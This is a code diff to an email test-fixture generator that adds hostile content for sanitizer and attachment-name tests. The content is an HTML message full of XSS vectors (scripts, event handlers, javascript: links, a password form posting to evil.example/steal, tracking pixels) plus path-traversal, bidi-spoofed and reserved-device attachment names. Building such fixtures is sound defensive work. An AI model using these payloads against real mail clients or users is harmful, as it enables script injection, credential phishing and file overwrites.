@@ -24,7 +24,7 @@ export interface FixtureSummary {
   unreadInInbox: number;
   flaggedInInbox: number;
   /** Subjects of a few well-known messages tests can look for. */
-  landmarks: { hostileHtml: string; nonAsciiAttachment: string; longestThread: string };
+  landmarks: { hostileHtml: string; hostileAttachments: string; nonAsciiAttachment: string; longestThread: string };
 }
 
 /** Small deterministic PRNG (mulberry32), so every run produces the same mailbox. */
@@ -131,6 +131,30 @@ GROUP BY 1 ORDER BY 1;`,
   },
 ];
 
+export const HOSTILE_HTML_SUBJECT = 'Your account statement (HTML with scripts)';
+export const HOSTILE_ATTACHMENTS_SUBJECT = 'Documents with dangerous file names';
+/** Script, event handlers, javascript:/data: links, SVG, meta refresh, base, forms, frames, objects, CSS tricks, remote content. */
+const HOSTILE_HTML = `<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><base href="https://evil.example/">
+<style>body{background:url(https://evil.example/style-bg.png)} p{behavior:url(#default#x);width:expression(alert(7))}</style>
+<link rel="stylesheet" href="https://evil.example/remote.css"></head>
+<body><script>alert('xss')</script><p onclick="alert(1)">Statement ready.</p><img src="x" onerror="alert(2)">
+<a href="javascript:alert(3)">Open</a> <a href="data:text/html,<script>alert(4)</script>">Details</a> <a href="command:workbench.action.terminal.new">Terminal</a>
+<svg onload="alert(5)"><script>alert(6)</script><a xlink:href="javascript:alert(8)"><text y="20">svg</text></a></svg>
+<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/object.swf"></object><embed src="https://evil.example/embed.swf">
+<form action="https://evil.example/steal"><input name="password" type="password"><button>Log in</button></form>
+<img src="https://evil.example/pixel.gif" width="1" height="1"><img srcset="https://evil.example/srcset.png 2x">
+<div style="background-image:url('https://evil.example/inline-bg.png')">Regards</div></body></html>`;
+/** Path traversal, separators, bidi override, control characters, reserved device names. */
+export const HOSTILE_ATTACHMENT_NAMES: readonly string[] = [
+  '../../../.bashrc',
+  '..\\..\\Windows\\System32\\evil.dll',
+  '/etc/passwd',
+  'invoice\u202Efdp.exe',
+  'CON.txt',
+  'tab\tand\u0007bell.txt',
+  '.hidden',
+];
+
 /** A valid 1×1 PNG. */
 const TINY_PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');
 const TINY_PDF = Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 0/Kids[]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n', 'latin1');
@@ -201,17 +225,30 @@ export function buildFixtureMessages(now: Date): FixtureMessage[] {
     });
   }
 
-  // A hostile HTML message, for sanitizer tests.
-  const hostileSubject = 'Your account statement (HTML with scripts)';
+  // Hostile content for the sanitizer and attachment-name tests (SECURITY.md E.26, E.29).
   messages.push({
     folder: 'INBOX',
     spec: {
       from: { name: 'Totally Legit Bank', address: 'statements@bank.example' },
       to: [ALICE],
-      subject: hostileSubject,
+      subject: HOSTILE_HTML_SUBJECT,
       date: hoursAgo(3),
       messageId: nextId('hostile'),
-      html: `<html><body><script>alert('xss')</script><p onclick="alert(1)">Statement ready.</p><img src="x" onerror="alert(2)"><a href="javascript:alert(3)">Open</a><iframe src="https://evil.example/"></iframe><form action="https://evil.example/steal"><input name="password"></form><img src="https://evil.example/pixel.gif"></body></html>`,
+      text: 'Your statement is ready.',
+      html: HOSTILE_HTML,
+    },
+    flags: [],
+  });
+  messages.push({
+    folder: 'INBOX',
+    spec: {
+      from: { name: 'Totally Legit Bank', address: 'statements@bank.example' },
+      to: [ALICE],
+      subject: HOSTILE_ATTACHMENTS_SUBJECT,
+      date: hoursAgo(2.5),
+      messageId: nextId('hostile'),
+      text: 'Documents attached.',
+      attachments: HOSTILE_ATTACHMENT_NAMES.map((filename) => ({ filename, contentType: 'application/octet-stream', content: Buffer.from(`not really ${filename}`) })),
     },
     flags: [],
   });
@@ -339,7 +376,7 @@ function summarize(owner: string, messages: FixtureMessage[]): FixtureSummary {
     folders,
     unreadInInbox: inbox.filter((message) => !message.flags.includes('Seen')).length,
     flaggedInInbox: inbox.filter((message) => message.flags.includes('Flagged')).length,
-    landmarks: { hostileHtml: 'Your account statement (HTML with scripts)', nonAsciiAttachment: 'Präsentation für Montag', longestThread: THREAD_SUBJECTS[0] },
+    landmarks: { hostileHtml: HOSTILE_HTML_SUBJECT, hostileAttachments: HOSTILE_ATTACHMENTS_SUBJECT, nonAsciiAttachment: 'Präsentation für Montag', longestThread: THREAD_SUBJECTS[0] },
   };
 }
 
